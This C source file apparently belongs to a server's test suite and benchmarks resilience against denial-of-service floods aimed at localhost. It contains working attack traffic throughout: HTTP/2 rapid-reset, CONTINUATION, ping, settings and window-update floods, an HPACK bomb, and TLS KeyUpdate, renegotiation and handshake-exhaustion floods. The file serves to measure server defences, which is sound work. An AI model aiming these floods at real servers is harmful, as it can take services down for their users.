/* SPDX-License-Identifier: MIT */
/*
 * One offender, in one process, for tests/bench/floods, which measures what others notice of it.
 *
 *      bench-flood KIND PORT SECONDS CONNECTIONS
 *              Floods 127.0.0.1 for so long, by so many connections at once (of HTTP/2; those of
 *              TLS go one by one), and comes again each time it is hung up on. Prints in one line:
 *              connections begun, those that the server ended, the longest time in s that it bore
 *              one, MiB sent, and then how it ended them, as WHAT=COUNT.
 *
 * Floods of HTTP/2, in clear: all their bytes are made beforehand, so that sending them costs less
 * than reading them. The offender reads what is said to it, as one who does not is not heard either
 * (tests/scenarios has that), and goes on until the connection is ended, whatever GOAWAY says. An
 * "end" is what came last: the code of GOAWAY, or "silent" without one; "dry" is a connection that
 * took all there was, and that nobody ended.
 *
 * Floods of TLS: messages behind the handshake, of which an "end" is the alert; and handshakes. To
 * those the same ClientHello serves again and again: who leaves needs no keys.
 *
 * A connection is closed by a reset, so that no port is kept from the next.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/tcp.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
        SIDE_BY_SIDE_MAX = 64,
        HELD = 500,          /* of those that are kept in a handshake */
        STREAMS = 50 * 1000, /* a connection; no server bore a fiftieth of it */
        SEND_BYTES = 64 * 1024,
        FRAME_HEAD_BYTES = 9,
        CODES = 256,
        HELLO_BYTES_MAX = 4096,
        MESSAGES = 64, /* behind a handshake; OpenSSL bears 32 */
        ANSWER_SECONDS = 10,
        BORNE_SECONDS = 5, /* and said all that there was to say */
};

enum { DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION };
enum { END_STREAM = 1, ACK = 1, END_HEADERS = 4 };

static unsigned port, side_by_side;
static double end_at;

static unsigned long begun, ended, silent, dry, left, codes[CODES];
static double longest, sent_bytes;

static _Noreturn void fail(const char *what, int error) {
        fprintf(stderr, "bench-flood: %s: %s\n", what, strerror(error));
        exit(1);
}

static double now(void) {
        struct timespec t;

        clock_gettime(CLOCK_MONOTONIC, &t);
        return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int open_socket(int flags) {
        struct sockaddr_in address = { .sin_family = AF_INET,
                                       .sin_port = htons((unsigned short)port),
                                       .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        struct timeval limit = { .tv_sec = ANSWER_SECONDS };
        struct linger reset = { .l_onoff = 1 };
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | flags, 0), one = 1;

        if (fd < 0)
                fail("socket", errno);
        (void)setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
        (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
        (void)setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof(limit));
        (void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
        if (connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0 && errno != EINPROGRESS)
                fail("connect", errno);
        begun++;
        return fd;
}

static void note_end(double since, unsigned long *how) {
        double lasted = now() - since;

        ended++;
        (*how)++;
        if (lasted > longest)
                longest = lasted;
}

/* ---- the bytes ---- */

static unsigned char *bytes;
static size_t bytes_used, bytes_size;
static size_t repeat_from; /* when all was sent; 0: it cannot be repeated */

static void put(const void *data, size_t size) {
        if (bytes_used + size > bytes_size) {
                bytes_size = 2 * bytes_size + size;
                bytes = realloc(bytes, bytes_size);
                if (!bytes)
                        fail("realloc", ENOMEM);
        }
        memcpy(bytes + bytes_used, data, size);
        bytes_used += size;
}

static void put_frame(unsigned type, unsigned flags, uint32_t stream, const void *data,
                      size_t size) {
        unsigned char head[FRAME_HEAD_BYTES] = {
                (unsigned char)(size >> 16),   (unsigned char)(size >> 8),
                (unsigned char)size,           (unsigned char)type,
                (unsigned char)flags,          (unsigned char)(stream >> 24),
                (unsigned char)(stream >> 16), (unsigned char)(stream >> 8),
                (unsigned char)stream,
        };

        put(head, sizeof(head));
        put(data, size);
}

/* GET http://localhost/f.txt */
#define REQUEST "\x82\x86\x01\x09localhost\x04\x06/f.txt"

static void put_request(uint32_t stream) {
        put_frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST, sizeof(REQUEST) - 1);
}

static void rapid_reset(uint32_t stream) {
        put_request(stream);
        put_frame(RST_STREAM, 0, stream, "\0\0\0\x08", 4);
}

/* A window too wide has the server reset what it answers. */
static void made_reset(uint32_t stream) {
        put_request(stream);
        put_frame(WINDOW, 0, stream, "\x7f\xff\xff\xff", 4);
        put_frame(WINDOW, 0, stream, "\x7f\xff\xff\xff", 4);
}

static void pings(uint32_t stream) {
        put_frame(PING, 0, 0, "12345678", 8);
}

static void settings(uint32_t stream) {
        put_frame(SETTINGS, 0, 0, stream % 4 == 1 ? "\0\4\0\0\xff\xff" : "\0\4\0\0\xff\0", 6);
}

static void window_updates(uint32_t stream) {
        put_frame(WINDOW, 0, 0, "\0\0\0\1", 4);
}

/* "x: y" again and again, in one block without an end. */
static void continuation(uint32_t stream) {
        unsigned char fields[16000];

        for (unsigned i = 0; i < sizeof(fields); i += 5)
                memcpy(fields + i, "\0\1x\1y", 5);
        if (stream == 1)
                put_frame(HEADERS, END_STREAM, 1, REQUEST, sizeof(REQUEST) - 1);
        if (stream == 1)
                repeat_from = bytes_used;
        put_frame(CONTINUATION, 0, 1, fields, sizeof(fields));
}

static void continuation_empty(uint32_t stream) {
        if (stream == 1)
                put_frame(HEADERS, END_STREAM, 1, REQUEST, sizeof(REQUEST) - 1);
        if (stream == 1)
                repeat_from = bytes_used;
        put_frame(CONTINUATION, 0, 1, NULL, 0);
}

/* A field of 3,000 bytes goes to the table, and each byte of the blocks behind it stands for it. */
static void hpack_bomb(uint32_t stream) {
        unsigned char block[16000] = REQUEST;
        size_t used = sizeof(REQUEST) - 1;

        if (stream == 1) {
                /* 3,000 is 127 and 2873 behind it, seven bits at a time */
                memcpy(block + used, "\x40\x06x-bomb\x7f\xb9\x16", 11);
                memset(block + used + 11, 'a', 3000);
                put_frame(HEADERS, END_STREAM | END_HEADERS, 1, block, used + 11 + 3000);
                return;
        }
        memset(block + used, 0xbe, sizeof(block) - used);
        put_frame(HEADERS, END_STREAM | END_HEADERS, stream, block, sizeof(block));
}

struct flood {
        const char *name;
        void (*put)(uint32_t stream); /* 1, 3, 5, … */
        unsigned times;
        bool repeats;
};

static const struct flood floods[] = {
        { "rapid-reset", rapid_reset, STREAMS, false },
        { "made-reset", made_reset, STREAMS, false },
        { "continuation", continuation, 64, true },
        { "continuation-empty", continuation_empty, STREAMS, true },
        { "settings", settings, STREAMS, true },
        { "ping", pings, STREAMS, true },
        { "window-update", window_updates, STREAMS, true },
        { "hpack-bomb", hpack_bomb, STREAMS / 20, false },
};

static void make_bytes(const struct flood *f) {
        static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

        put(preface, sizeof(preface) - 1);
        put_frame(SETTINGS, 0, 0, NULL, 0);
        put_frame(SETTINGS, ACK, 0, NULL, 0);
        repeat_from = f->repeats ? bytes_used : 0;
        for (unsigned i = 0; i < f->times; i++)
                f->put(2 * i + 1);
}

/* ---- HTTP/2 ---- */

struct conn {
        int fd;
        size_t at; /* of the bytes */
        double since;
        unsigned char head[FRAME_HEAD_BYTES + 8]; /* of the frame that comes, and of its payload */
        size_t head_bytes, payload_left;
        int code; /* of GOAWAY; -1: none came */
};

static void conn_open(struct conn *c) {
        *c = (struct conn){ .fd = open_socket(SOCK_NONBLOCK), .since = now(), .code = -1 };
}

static void conn_end(struct conn *c, unsigned long *how) {
        note_end(c->since, c->code >= 0 && how == &silent ? &codes[c->code] : how);
        close(c->fd);
        conn_open(c);
}

/* How long it has borne those that are left. */
static void note_left(const struct conn *conns, unsigned count) {
        for (unsigned i = 0; i < count; i++)
                if (now() - conns[i].since > longest)
                        longest = now() - conns[i].since;
}

/* Look for GOAWAY in what came. */
static void conn_parse(struct conn *c, const unsigned char *data, size_t size) {
        while (size) {
                bool in_head = c->head_bytes < FRAME_HEAD_BYTES;
                size_t wanted = in_head ? FRAME_HEAD_BYTES - c->head_bytes : c->payload_left;
                size_t n = size < wanted ? size : wanted, room = sizeof(c->head) - c->head_bytes;

                memcpy(c->head + c->head_bytes, data, n < room ? n : room);
                c->head_bytes += n < room ? n : room;
                data += n;
                size -= n;
                if (!in_head)
                        c->payload_left -= n;
                else if (c->head_bytes == FRAME_HEAD_BYTES)
                        c->payload_left =
                                (size_t)c->head[0] << 16 | (size_t)c->head[1] << 8 | c->head[2];
                if (c->head_bytes < FRAME_HEAD_BYTES || c->payload_left)
                        continue;
                if (c->head[3] == GOAWAY)
                        c->code = c->head[FRAME_HEAD_BYTES + 7];
                c->head_bytes = 0;
        }
}

/* False: it is another connection by now. */
static bool conn_read(struct conn *c) {
        unsigned char data[SEND_BYTES];
        ssize_t n = recv(c->fd, data, sizeof(data), 0);

        if (n > 0)
                conn_parse(c, data, (size_t)n);
        if (n > 0 || (n < 0 && errno == EAGAIN))
                return true;
        conn_end(c, &silent);
        return false;
}

static void conn_write(struct conn *c) {
        size_t size = bytes_used - c->at;
        ssize_t n = send(c->fd, bytes + c->at, size < SEND_BYTES ? size : SEND_BYTES, MSG_NOSIGNAL);

        if (n < 0) {
                if (errno != EAGAIN)
                        conn_end(c, &silent);
                return;
        }
        sent_bytes += (double)n;
        c->at += (size_t)n;
        if (c->at < bytes_used)
                return;
        c->at = repeat_from ? repeat_from : bytes_used;
}

static void conn_turn(struct conn *c, short events) {
        if (c->at == bytes_used && now() > c->since + BORNE_SECONDS) {
                conn_end(c, &dry);
                return;
        }
        if (events & ~POLLOUT && !conn_read(c))
                return;
        if (events & POLLOUT)
                conn_write(c);
}

static void flood_http2(const struct flood *f) {
        static struct conn conns[SIDE_BY_SIDE_MAX];
        struct pollfd fds[SIDE_BY_SIDE_MAX];

        make_bytes(f);
        for (unsigned i = 0; i < side_by_side; i++)
                conn_open(&conns[i]);
        while (now() < end_at) {
                for (unsigned i = 0; i < side_by_side; i++)
                        fds[i] = (struct pollfd){
                                conns[i].fd, conns[i].at < bytes_used ? POLLIN | POLLOUT : POLLIN, 0
                        };
                if (poll(fds, side_by_side, 1000) < 0)
                        fail("poll", errno);
                for (unsigned i = 0; i < side_by_side; i++)
                        conn_turn(&conns[i], fds[i].revents);
        }
        note_left(conns, side_by_side);
}

/* ---- TLS ---- */

static SSL_CTX *context;
static int last_alert;

static void note_alert(const SSL *ssl, int where, int value) {
        if (where & SSL_CB_READ && where & SSL_CB_ALERT)
                last_alert = value & 0xff;
}

static void open_context(int version) {
        context = SSL_CTX_new(TLS_client_method());
        if (!context || !SSL_CTX_set_min_proto_version(context, version) ||
            !SSL_CTX_set_max_proto_version(context, version) ||
            !SSL_CTX_set1_groups_list(context, "X25519:P-256"))
                fail("OpenSSL", EINVAL);
        SSL_CTX_set_info_callback(context, note_alert);
}

static SSL *open_ssl(void) {
        SSL *ssl = SSL_new(context);

        if (!ssl || !SSL_set_tlsext_host_name(ssl, "localhost"))
                fail("SSL_new", ENOMEM);
        SSL_set_connect_state(ssl);
        return ssl;
}

/* Handshakes, and behind each the same message until the server has enough of it. */
static void flood_messages(int version, int (*say)(SSL *ssl)) {
        open_context(version);
        while (now() < end_at) {
                int fd = open_socket(0);
                double since = now();
                SSL *ssl = open_ssl();
                char data[256];

                last_alert = -1;
                if (!SSL_set_fd(ssl, fd) || SSL_connect(ssl) != 1)
                        fail("handshake", EPROTO);
                for (unsigned i = 0; i < MESSAGES && say(ssl) == 1; i++)
                        sent_bytes += 27; /* a KeyUpdate's record */
                errno = 0;
                while (SSL_read(ssl, data, sizeof(data)) > 0)
                        ;
                note_end(since, errno == EAGAIN   ? &dry
                                : last_alert >= 0 ? &codes[last_alert]
                                                  : &silent);
                SSL_free(ssl);
                close(fd);
        }
}

static int say_key_update(SSL *ssl) {
        if (!SSL_key_update(ssl, SSL_KEY_UPDATE_REQUESTED))
                return 0;
        return SSL_do_handshake(ssl);
}

static int say_renegotiate(SSL *ssl) {
        if (!SSL_renegotiate(ssl))
                return 0;
        return SSL_do_handshake(ssl);
}

static void flood_key_updates(void) {
        flood_messages(TLS1_3_VERSION, say_key_update);
}

static void flood_renegotiations(void) {
        flood_messages(TLS1_2_VERSION, say_renegotiate);
}

static size_t make_hello(unsigned char hello[static HELLO_BYTES_MAX]) {
        BIO *in = BIO_new(BIO_s_mem()), *out = BIO_new(BIO_s_mem());
        SSL *ssl;
        int n;

        open_context(TLS1_3_VERSION);
        ssl = open_ssl();
        SSL_set_bio(ssl, in, out);
        (void)SSL_do_handshake(ssl); /* it has but begun */
        n = BIO_read(out, hello, HELLO_BYTES_MAX);
        if (n <= 0)
                fail("ClientHello", EPROTO);
        SSL_free(ssl);
        return (size_t)n;
}

/* Begun, until the server has had its work, and left. */
static void flood_handshakes_left(void) {
        unsigned char hello[HELLO_BYTES_MAX], answer[HELLO_BYTES_MAX];
        size_t size = make_hello(hello);

        while (now() < end_at) {
                int fd = open_socket(0);

                if (send(fd, hello, size, MSG_NOSIGNAL) != (ssize_t)size ||
                    recv(fd, answer, sizeof(answer), 0) <= 0)
                        fail("an answer to ClientHello", EPROTO);
                sent_bytes += (double)size;
                left++;
                close(fd);
        }
}

/* Begun, and never gone on with: as many as there may be, until the server ends them. */
static void flood_handshakes_held(void) {
        static struct conn conns[HELD];
        struct pollfd fds[HELD];
        unsigned char hello[HELLO_BYTES_MAX], answer[HELLO_BYTES_MAX];
        size_t size = make_hello(hello);

        for (unsigned i = 0; i < HELD; i++)
                conns[i].fd = -1;
        while (now() < end_at) {
                for (unsigned i = 0; i < HELD; i++) {
                        if (conns[i].fd < 0) {
                                conns[i] = (struct conn){ .fd = open_socket(0), .since = now() };
                                (void)send(conns[i].fd, hello, size, MSG_NOSIGNAL);
                                sent_bytes += (double)size;
                        }
                        fds[i] = (struct pollfd){ conns[i].fd, POLLIN, 0 };
                }
                if (poll(fds, HELD, 100) < 0)
                        fail("poll", errno);
                for (unsigned i = 0; i < HELD; i++) {
                        if (!fds[i].revents || recv(fds[i].fd, answer, sizeof(answer), 0) > 0)
                                continue;
                        note_end(conns[i].since, &silent);
                        close(conns[i].fd);
                        conns[i].fd = -1;
                }
        }
        note_left(conns, HELD);
}

static const struct {
        const char *name;
        void (*run)(void);
} tls_floods[] = {
        { "key-update", flood_key_updates },
        { "renegotiation", flood_renegotiations },
        { "handshakes-left", flood_handshakes_left },
        { "handshakes-held", flood_handshakes_held },
};

/* ---- */

static bool run(const char *name) {
        for (unsigned i = 0; i < sizeof(floods) / sizeof(*floods); i++)
                if (strcmp(floods[i].name, name) == 0) {
                        flood_http2(&floods[i]);
                        return true;
                }
        for (unsigned i = 0; i < sizeof(tls_floods) / sizeof(*tls_floods); i++)
                if (strcmp(tls_floods[i].name, name) == 0) {
                        tls_floods[i].run();
                        return true;
                }
        return false;
}

static void print_found(void) {
        printf("%lu %lu %.2f %.1f", begun, ended - dry, longest, sent_bytes / (1 << 20));
        for (unsigned i = 0; i < CODES; i++)
                if (codes[i])
                        printf(" %u=%lu", i, codes[i]);
        if (silent)
                printf(" silent=%lu", silent);
        if (dry)
                printf(" dry=%lu", dry);
        if (left)
                printf(" left=%lu", left);
        printf("\n");
}

int main(int argc, char **argv) {
        if (argc != 5)
                fail("KIND PORT SECONDS CONNECTIONS", EINVAL);
        signal(SIGPIPE, SIG_IGN);
        port = (unsigned)strtoul(argv[2], NULL, 10);
        side_by_side = (unsigned)strtoul(argv[4], NULL, 10);
        if (side_by_side < 1 || side_by_side > SIDE_BY_SIDE_MAX)
                fail(argv[4], ERANGE);
        end_at = now() + strtod(argv[3], NULL);
        if (!run(argv[1]))
                fail(argv[1], EINVAL);
        print_found();
        return 0;
}
